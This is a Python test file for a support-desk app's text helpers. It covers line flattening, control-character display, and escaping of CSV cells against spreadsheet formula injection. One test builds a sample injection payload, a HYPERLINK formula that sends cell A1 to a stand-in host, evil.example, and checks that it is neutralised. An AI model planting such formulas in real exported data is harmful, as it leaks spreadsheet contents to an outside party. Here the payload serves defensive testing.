"""One line of user text, as the reports and the widgets show it: one flattening for both, the
widgets' version also making control characters visible."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kesu_desk import text
from kesu_desk.widgets import text as widget_text


def test_white_space_runs_become_one_space_and_long_text_is_cut() -> None:
    assert text.one_line("  壶盖\n密封圈\t\u3000漏水  ") == "壶盖 密封圈 漏水"
    assert text.one_line(None) == "" and text.one_line("") == ""
    assert text.one_line("一二三四五", 5) == "一二三四五"
    assert text.one_line("一二三四五六", 5) == "一二三四…"
    assert text.one_line("[b]x[/b] \x1b[31m") == "[b]x[/b] \x1b[31m"  # services keep the text as it is


def test_the_widgets_flatten_the_same_way_with_control_characters_as_pictures() -> None:
    assert widget_text.one_line("  壶盖\n密封圈\t\u3000漏水  ") == "壶盖 密封圈 漏水"
    assert widget_text.one_line(None) == ""
    assert widget_text.one_line("[b]x[/b] \x1b[31m") == "[b]x[/b] \u241b[31m"


# -- CSV cells a spreadsheet must not run (issue 11.5) ------------------------------------------

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_and_comes_back_unchanged(start: str) -> None:
    value = start + "HYPERLINK(\"http://evil.example/\"&A1)"
    assert text.csv_cell(value) == "'" + value
    assert text.from_csv_cell(text.csv_cell(value)) == value


def test_the_quote_itself_is_escaped_so_the_escaping_can_be_undone() -> None:
    for value in ("'", "'=1+1", "''", "'plain", "it's"):
        assert text.from_csv_cell(text.csv_cell(value)) == value
    assert text.csv_cell("'=1+1") == "''=1+1"
    assert text.csv_cell("it's") == "it's"  # only a leading quote


def test_numbers_and_ordinary_text_are_written_as_they_are() -> None:
    for value in ("", "-5", "-1234.50", "300.00", "0", "壶盖漏水", "KS-20261125-0001", "a=b", " =x"):
        assert text.csv_cell(value) == value
        assert text.from_csv_cell(value) == value
    # Shaped like a number but more than one: a formula.
    for value in ("-1+1", "-5e3", "-", "--5", "+5"):
        assert text.csv_cell(value) == "'" + value


@given(st.text())
def test_escaping_any_text_is_undone_exactly(value: str) -> None:
    cell = text.csv_cell(value)
    assert cell[:1] not in FORMULA_STARTS or text.NEGATIVE_NUMBER.fullmatch(cell)
    assert text.from_csv_cell(cell) == value
